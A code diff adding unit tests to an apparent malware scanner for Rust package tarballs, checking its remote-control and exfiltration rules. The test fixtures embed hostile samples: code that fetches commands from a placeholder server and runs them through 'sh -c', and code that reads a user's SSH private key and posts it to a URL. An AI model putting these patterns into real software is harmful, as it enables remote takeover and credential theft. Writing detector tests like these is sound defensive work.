@@ -538,3 +538,160 @@ fn analyse_function(
     }
     summary
 }
+
+#[cfg(test)]
+mod tests {
+    use wharf_tarball::test_support::TarballBuilder;
+    use wharf_tarball::{process_tarball, Limits};
+
+    use crate::scan::{scan_package, SignalKind};
+    use crate::Verdict;
+
+    fn report(source: &str) -> crate::scan::Report {
+        let tarball = TarballBuilder::new()
+            .file(
+                "flows-0.1.0/Cargo.toml",
+                "[package]\nname = \"flows\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\
+                 description = \"x\"\nlicense = \"MIT\"\n\n[dependencies]\nureq = \"2\"\n",
+            )
+            .file("flows-0.1.0/src/lib.rs", source)
+            .build();
+        let tarball = process_tarball("flows", "0.1.0", &tarball, &Limits::default()).unwrap();
+        scan_package(&tarball)
+    }
+
+    /// The findings of a library whose `src/lib.rs` is `source`, as (rule, severity).
+    fn findings(source: &str) -> Vec<(String, Verdict)> {
+        report(source)
+            .findings
+            .into_iter()
+            .map(|f| (f.rule, f.severity))
+            .collect()
+    }
+
+    fn severity(findings: &[(String, Verdict)], rule: &str) -> Option<Verdict> {
+        findings
+            .iter()
+            .filter(|(r, _)| r == rule)
+            .map(|(_, s)| *s)
+            .max()
+    }
+
+    const SHELL_HELPER: &str = r#"
+        fn run(line: &str) {
+            let _ = std::process::Command::new("sh").arg("-c").arg(line).status();
+        }
+    "#;
+
+    #[test]
+    fn commands_from_a_server_written_into_the_code_reach_a_shell_through_a_helper() {
+        let found = findings(&format!(
+            r#"{SHELL_HELPER}
+            const SERVER: &str = "https://updates.invalid/next";
+            pub fn start() {{
+                let body = ureq::get(SERVER).call().unwrap().into_string().unwrap();
+                for line in body.lines() {{
+                    run(line);
+                }}
+            }}"#
+        ));
+        assert_eq!(
+            severity(&found, super::super::rules::REMOTE_CONTROL),
+            Some(Verdict::Hold),
+            "{found:?}"
+        );
+    }
+
+    #[test]
+    fn a_runner_pointed_at_its_callers_server_is_only_flagged() {
+        let found = findings(&format!(
+            r#"{SHELL_HELPER}
+            pub fn start(server: &str) {{
+                let body = ureq::get(server).call().unwrap().into_string().unwrap();
+                for line in body.lines() {{
+                    run(line);
+                }}
+            }}"#
+        ));
+        assert_eq!(
+            severity(&found, super::super::rules::REMOTE_CONTROL),
+            Some(Verdict::Flag),
+            "{found:?}"
+        );
+    }
+
+    #[test]
+    fn a_key_returned_by_one_function_and_sent_by_another_is_exfiltration() {
+        let found = findings(
+            r#"
+            fn key() -> String {
+                let home = std::env::var("HOME").unwrap();
+                let text = std::fs::read_to_string(format!("{home}/.ssh/id_ed25519"));
+                text.unwrap_or_default()
+            }
+            pub fn report(url: &str) {
+                let mut body = String::new();
+                body.push_str(&format!("k={}", key()));
+                let _ = ureq::post(url).send_string(&body);
+            }"#,
+        );
+        assert_eq!(
+            severity(&found, super::super::rules::EXFILTRATION),
+            Some(Verdict::Hold),
+            "{found:?}"
+        );
+    }
+
+    #[test]
+    fn a_key_used_beside_a_request_it_never_reaches_is_no_exfiltration() {
+        let found = findings(
+            r#"
+            fn sign(key: &[u8], message: &str) -> usize { key.len() + message.len() }
+            pub fn report(url: &str, message: &str) {
+                let key = std::fs::read("/home/user/.ssh/id_ed25519").unwrap();
+                let signature = sign(&key, message);
+                println!("{signature}");
+                let _ = ureq::post(url).send_string(message);
+            }"#,
+        );
+        assert_eq!(
+            severity(&found, super::super::rules::EXFILTRATION),
+            None,
+            "{found:?}"
+        );
+    }
+
+    #[test]
+    fn a_constructor_of_one_type_is_not_every_new() {
+        // `Command::new` is not `Fetcher::new`, whose value came from the network.
+        let source = r#"
+            pub struct Fetcher { body: String }
+            impl Fetcher {
+                pub fn new() -> Self {
+                    let body = ureq::get("https://updates.invalid/").call().unwrap();
+                    Fetcher { body: body.into_string().unwrap() }
+                }
+            }
+            pub fn run_argument() {
+                let line = std::env::args().nth(1).unwrap();
+                let _ = std::process::Command::new("sh").arg("-c").arg(&line).status();
+                let fetched = Fetcher::new();
+                println!("{}", fetched.body.len());
+            }"#;
+        let flows: Vec<_> = report(source)
+            .signals
+            .into_iter()
+            .filter(|s| {
+                matches!(
+                    s.kind,
+                    SignalKind::Flow {
+                        source: super::Source::Network,
+                        sink: super::Sink::Shell,
+                        ..
+                    }
+                )
+            })
+            .collect();
+        assert!(flows.is_empty(), "{flows:#?}");
+    }
+}
